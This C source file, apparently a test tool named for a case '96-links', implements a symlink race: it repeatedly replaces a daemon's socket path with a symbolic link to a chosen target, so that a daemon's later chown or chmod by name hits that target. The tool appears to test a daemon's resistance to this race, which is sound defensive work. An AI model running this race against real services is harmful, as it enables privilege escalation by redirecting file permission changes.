/*
 * linkrace: a hostile process for 96-links (run as the daemon's user).
 *
 *   linkrace PATH TARGET
 *
 * Until killed: whenever PATH is a socket, it is replaced at once (a
 * symbolic link to TARGET renamed over it), so that a daemon changing
 * PATH's owner or mode by name after bind(2) changes TARGET instead;
 * after a moment the link is removed again so that the next start of the
 * daemon finds the name free.  Prints "swaps=N" on SIGTERM.
 */
#include <sys/stat.h>

#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void
on_term(int signo)
{
	(void)signo;
	stop = 1;
}

int
main(int argc, char **argv)
{
	struct timespec pause = { 0, 20 * 1000 * 1000 };	/* 20 ms */
	struct sigaction sa;
	struct stat sb;
	unsigned long swaps = 0;
	char tmp[4096];

	if (argc != 3) {
		fprintf(stderr, "usage: linkrace PATH TARGET\n");
		return 2;
	}
	snprintf(tmp, sizeof(tmp), "%s.race", argv[1]);
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	while (!stop) {
		if (lstat(argv[1], &sb) == -1 || !S_ISSOCK(sb.st_mode))
			continue;
		(void)unlink(tmp);
		if (symlink(argv[2], tmp) == -1 || rename(tmp, argv[1]) == -1)
			continue;
		swaps++;
		nanosleep(&pause, NULL);
		if (lstat(argv[1], &sb) == 0 && S_ISLNK(sb.st_mode))
			(void)unlink(argv[1]);
	}
	printf("swaps=%lu\n", swaps);
	return 0;
}
